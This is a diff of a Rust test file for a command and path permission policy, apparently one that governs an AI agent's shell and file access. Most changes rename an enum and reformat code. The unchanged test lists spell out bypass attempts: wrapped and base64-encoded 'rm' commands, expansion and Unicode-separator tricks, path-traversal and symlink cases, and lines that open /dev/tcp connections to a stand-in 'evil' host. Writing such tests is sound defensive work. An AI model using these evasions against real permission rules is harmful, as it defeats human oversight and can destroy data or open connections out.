@@ -1,16 +1,18 @@
-//! Attacks on policies, a row each: command lines that try to pass for allowed ones, and paths in other spellings.
+//! Attacks on policies, one per row: command lines that imitate allowed ones, and paths in other
+//! spellings.
 
 use std::path::Path;
 
-use goondan_spec::kinds::{Action, MarkedArguments, Permissions};
+use goondan_spec::kinds::{MarkedArguments, PermissionAction, Permissions};
 use serde_json::json;
 
 use super::tests::{ASKED, rule, shell_action};
 use super::{PathArguments, PolicyQuestion, decide};
 
-/// More lines that are none of `git *`, `echo *` and `ls`; the first of them are with the tests of the grammar.
+/// More lines that do not match `git *`, `echo *` and `ls`. The first ones are in the grammar
+/// tests.
 const BYPASSES: &[&str] = &[
-    // Wrappers, one in the other.
+    // Nested wrappers.
     "env -i rm x",
     "env -C / rm x",
     "nice -n 5 nohup setsid rm x",
@@ -56,7 +58,7 @@ const BYPASSES: &[&str] = &[
     "bash <(echo rm x)",
     "echo cm0geA== | base64 -d | sh",
     "printf 'rm x' | bash -s",
-    // Names that an expansion makes.
+    // Command names from expansions.
     "r${X}m x",
     "${X}m x",
     "$'\\x72m' x",
@@ -85,7 +87,7 @@ const BYPASSES: &[&str] = &[
     "echo \"${X//a/$(rm x)}\"",
     "echo ${X@P}",
     "echo \"$(echo \"$(rm x)\")\"",
-    // Separators and spaces that look like others.
+    // Look-alike separators and spaces.
     "git log\rrm x",
     "git\u{2003}log",
     "git\u{3000}log",
@@ -143,7 +145,7 @@ const BYPASSES: &[&str] = &[
     "echo evil > /dev/tcp/evil/80",
     "echo evil > >(sh)",
     "exec 3<> /dev/tcp/evil/80",
-    // Programs in other folders.
+    // Programs in other directories.
     "/tmp/echo x",
     "./ls",
     "../../bin/ls",
@@ -154,13 +156,15 @@ const BYPASSES: &[&str] = &[
 #[test]
 fn command_lines_that_pass_for_allowed_ones() {
     let rules = [
-        ("git *", Action::Allow),
-        ("echo *", Action::Allow),
-        ("ls", Action::Allow),
+        ("git *", PermissionAction::Allow),
+        ("echo *", PermissionAction::Allow),
+        ("ls", PermissionAction::Allow),
     ];
     let rows = || BYPASSES.iter().chain(ASKED);
     let through: Vec<_> = rows()
-        .filter(|line| shell_action(Action::Deny, &rules, line) == Action::Allow)
+        .filter(|line| {
+            shell_action(PermissionAction::Deny, &rules, line) == PermissionAction::Allow
+        })
         .collect();
     assert!(through.is_empty(), "{through:#?}");
     println!(
@@ -169,7 +173,7 @@ fn command_lines_that_pass_for_allowed_ones() {
     );
 }
 
-/// Lines that run `rm`, or may.
+/// Lines that run `rm` or may run it.
 const HIDDEN: &[&str] = &[
     "rm x",
     "/bin/rm x",
@@ -248,10 +252,12 @@ const HIDDEN: &[&str] = &[
 
 #[test]
 fn command_lines_that_hide_a_denied_command() {
-    let rules = [("rm *", Action::Deny)];
+    let rules = [("rm *", PermissionAction::Deny)];
     let through: Vec<_> = HIDDEN
         .iter()
-        .filter(|line| shell_action(Action::Allow, &rules, line) == Action::Allow)
+        .filter(|line| {
+            shell_action(PermissionAction::Allow, &rules, line) == PermissionAction::Allow
+        })
         .collect();
     assert!(through.is_empty(), "{through:#?}");
     println!(
@@ -261,11 +267,11 @@ fn command_lines_that_hide_a_denied_command() {
 }
 
 fn about_path(
-    rules: &[(&str, Action)],
-    default: Action,
+    rules: &[(&str, PermissionAction)],
+    default: PermissionAction,
     folder: Option<&Path>,
     path: &str,
-) -> Action {
+) -> PermissionAction {
     let rules = rules
         .iter()
         .map(|(pattern, action)| rule(None, None, &[("path", pattern)], *action))
@@ -313,13 +319,23 @@ fn paths_in_other_spellings() {
     ];
     for path in denied {
         assert_eq!(
-            about_path(&[("keep/*", Action::Deny)], Action::Allow, None, path),
-            Action::Deny,
+            about_path(
+                &[("keep/*", PermissionAction::Deny)],
+                PermissionAction::Allow,
+                None,
+                path
+            ),
+            PermissionAction::Deny,
             "{path}"
         );
         assert_eq!(
-            about_path(&[("./keep/*", Action::Ask)], Action::Allow, None, path),
-            Action::Ask,
+            about_path(
+                &[("./keep/*", PermissionAction::Ask)],
+                PermissionAction::Allow,
+                None,
+                path
+            ),
+            PermissionAction::Ask,
             "{path}"
         );
     }
@@ -334,14 +350,24 @@ fn paths_in_other_spellings() {
     ];
     for path in not_allowed {
         assert_eq!(
-            about_path(&[("keep/*", Action::Allow)], Action::Deny, None, path),
-            Action::Deny,
+            about_path(
+                &[("keep/*", PermissionAction::Allow)],
+                PermissionAction::Deny,
+                None,
+                path
+            ),
+            PermissionAction::Deny,
             "{path}"
         );
     }
     assert_eq!(
-        about_path(&[("keep/*", Action::Allow)], Action::Deny, None, "./keep/x"),
-        Action::Allow
+        about_path(
+            &[("keep/*", PermissionAction::Allow)],
+            PermissionAction::Deny,
+            None,
+            "./keep/x"
+        ),
+        PermissionAction::Allow
     );
     println!(
         "attacks: paths, spelled otherwise for a policy: {} refused",
@@ -382,31 +408,35 @@ fn paths_by_way_of_links() {
     ];
     for path in denied {
         let action = about_path(
-            &[("keep/*", Action::Deny)],
-            Action::Allow,
+            &[("keep/*", PermissionAction::Deny)],
+            PermissionAction::Allow,
             Some(&folder),
             path,
         );
-        assert_eq!(action, Action::Deny, "{path}");
+        assert_eq!(action, PermissionAction::Deny, "{path}");
     }
     let not_allowed = ["keep/leave/x", "keep/leave", "keep/../a/x"];
     for path in not_allowed {
         let action = about_path(
-            &[("keep/*", Action::Allow)],
-            Action::Deny,
+            &[("keep/*", PermissionAction::Allow)],
+            PermissionAction::Deny,
             Some(&folder),
             path,
         );
-        assert_eq!(action, Action::Deny, "{path}");
+        assert_eq!(action, PermissionAction::Deny, "{path}");
     }
     for path in ["keep/x", "to-keep/x/../y", &absolute] {
         let action = about_path(
-            &[("keep/*", Action::Allow)],
-            Action::Deny,
+            &[("keep/*", PermissionAction::Allow)],
+            PermissionAction::Deny,
             Some(&folder),
             path,
         );
-        assert_eq!(action == Action::Allow, !path.starts_with("to-"), "{path}");
+        assert_eq!(
+            action == PermissionAction::Allow,
+            !path.starts_with("to-"),
+            "{path}"
+        );
     }
     println!(
         "attacks: paths, through links around a policy: {} refused",
@@ -414,14 +444,14 @@ fn paths_by_way_of_links() {
     );
 }
 
-/// What rules over paths say about a call whose arguments have these formats.
+/// Returns the action of path rules for a call whose arguments have these formats.
 fn about_marked(
-    rules: &[(&str, Action)],
-    default: Action,
+    rules: &[(&str, PermissionAction)],
+    default: PermissionAction,
     folder: &Path,
     marked: &MarkedArguments,
     arguments: serde_json::Value,
-) -> Action {
+) -> PermissionAction {
     let arguments = arguments.as_object().cloned().unwrap_or_default();
     let rules = rules
         .iter()
@@ -451,7 +481,7 @@ fn paths_in_a_patch_and_in_lists() {
         patches: vec!["patch".to_owned()],
         ..MarkedArguments::default()
     };
-    let about = |rules: &[(&str, Action)], default, body: &str| {
+    let about = |rules: &[(&str, PermissionAction)], default, body: &str| {
         let patch = format!("*** Begin Patch\n{body}\n*** End Patch");
         about_marked(
             rules,
@@ -477,8 +507,12 @@ fn paths_in_a_patch_and_in_lists() {
     ];
     for body in denied {
         assert_eq!(
-            about(&[("keep/*", Action::Deny)], Action::Allow, body),
-            Action::Deny,
+            about(
+                &[("keep/*", PermissionAction::Deny)],
+                PermissionAction::Allow,
+                body
+            ),
+            PermissionAction::Deny,
             "{body}"
         );
     }
@@ -489,50 +523,57 @@ fn paths_in_a_patch_and_in_lists() {
     ];
     for body in not_allowed {
         assert_eq!(
-            about(&[("keep/*", Action::Allow)], Action::Deny, body),
-            Action::Deny,
+            about(
+                &[("keep/*", PermissionAction::Allow)],
+                PermissionAction::Deny,
+                body
+            ),
+            PermissionAction::Deny,
             "{body}"
         );
     }
     let two = "*** Delete File: keep/x\n*** Update File: also/y\n*** Move to: keep/y\n";
     assert_eq!(
         about(
-            &[("keep/*", Action::Allow), ("also/*", Action::Allow)],
-            Action::Deny,
+            &[
+                ("keep/*", PermissionAction::Allow),
+                ("also/*", PermissionAction::Allow)
+            ],
+            PermissionAction::Deny,
             two
         ),
-        Action::Allow
+        PermissionAction::Allow
     );
     let listed = MarkedArguments {
         paths: vec!["path".to_owned()],
         ..MarkedArguments::default()
     };
-    let list = |rules: &[(&str, Action)], default, paths| {
+    let list = |rules: &[(&str, PermissionAction)], default, paths| {
         about_marked(rules, default, dir.path(), &listed, json!({"path": paths}))
     };
     assert_eq!(
         list(
-            &[("keep/*", Action::Deny)],
-            Action::Allow,
+            &[("keep/*", PermissionAction::Deny)],
+            PermissionAction::Allow,
             json!(["a", "b/../keep/x"])
         ),
-        Action::Deny
+        PermissionAction::Deny
     );
     assert_eq!(
         list(
-            &[("keep/*", Action::Allow)],
-            Action::Ask,
+            &[("keep/*", PermissionAction::Allow)],
+            PermissionAction::Ask,
             json!(["keep/a", "b"])
         ),
-        Action::Ask
+        PermissionAction::Ask
     );
     assert_eq!(
         list(
-            &[("keep/*", Action::Allow)],
-            Action::Ask,
+            &[("keep/*", PermissionAction::Allow)],
+            PermissionAction::Ask,
             json!(["keep/a", "./keep/b"])
         ),
-        Action::Allow
+        PermissionAction::Allow
     );
     println!(
         "attacks: paths, in patches and lists for a policy: {} refused",
@@ -548,10 +589,10 @@ fn paths_below_a_folder_that_is_searched() {
         ..MarkedArguments::default()
     };
     let about = |pattern, default, path: &str| {
-        let action = if default == Action::Deny {
-            Action::Allow
+        let action = if default == PermissionAction::Deny {
+            PermissionAction::Allow
         } else {
-            Action::Deny
+            PermissionAction::Deny
         };
         about_marked(
             &[(pattern, action)],
@@ -572,12 +613,15 @@ fn paths_below_a_folder_that_is_searched() {
     ];
     for (pattern, path) in doubtful {
         assert_eq!(
-            about(pattern, Action::Allow, path),
-            Action::Ask,
+            about(pattern, PermissionAction::Allow, path),
+            PermissionAction::Ask,
             "{pattern} {path}"
         );
     }
-    assert_eq!(about("a/keep/*", Action::Allow, "a/keep/b"), Action::Deny);
+    assert_eq!(
+        about("a/keep/*", PermissionAction::Allow, "a/keep/b"),
+        PermissionAction::Deny
+    );
     for (pattern, path) in [
         ("a/keep/*", "b"),
         ("/etc/*", "."),
@@ -585,12 +629,15 @@ fn paths_below_a_folder_that_is_searched() {
         ("ab", "a"),
     ] {
         assert_eq!(
-            about(pattern, Action::Allow, path),
-            Action::Allow,
+            about(pattern, PermissionAction::Allow, path),
+            PermissionAction::Allow,
             "{pattern} {path}"
         );
     }
-    assert_eq!(about("a/*", Action::Deny, "a/b"), Action::Allow);
+    assert_eq!(
+        about("a/*", PermissionAction::Deny, "a/b"),
+        PermissionAction::Allow
+    );
     println!(
         "attacks: paths, below what is searched for a policy: {} refused",
         doubtful.len() + 1
@@ -611,21 +658,26 @@ fn paths_outside_are_seen_from_the_working_folder() {
         .to_string();
     for path in ["../shared/x", "a/../../shared/x", &absolute] {
         for (rules, expected) in [
-            ("../shared/*", Action::Allow),
-            ("../other/*", Action::Ask),
-            ("shared/*", Action::Ask),
+            ("../shared/*", PermissionAction::Allow),
+            ("../other/*", PermissionAction::Ask),
+            ("shared/*", PermissionAction::Ask),
         ] {
-            let action = about_path(&[(rules, Action::Allow)], Action::Ask, Some(&folder), path);
+            let action = about_path(
+                &[(rules, PermissionAction::Allow)],
+                PermissionAction::Ask,
+                Some(&folder),
+                path,
+            );
             assert_eq!(action, expected, "{rules} {path}");
         }
         assert_eq!(
             about_path(
-                &[("../shared/./*", Action::Deny)],
-                Action::Allow,
+                &[("../shared/./*", PermissionAction::Deny)],
+                PermissionAction::Allow,
                 Some(&folder),
                 path
             ),
-            Action::Deny
+            PermissionAction::Deny
         );
     }
 }
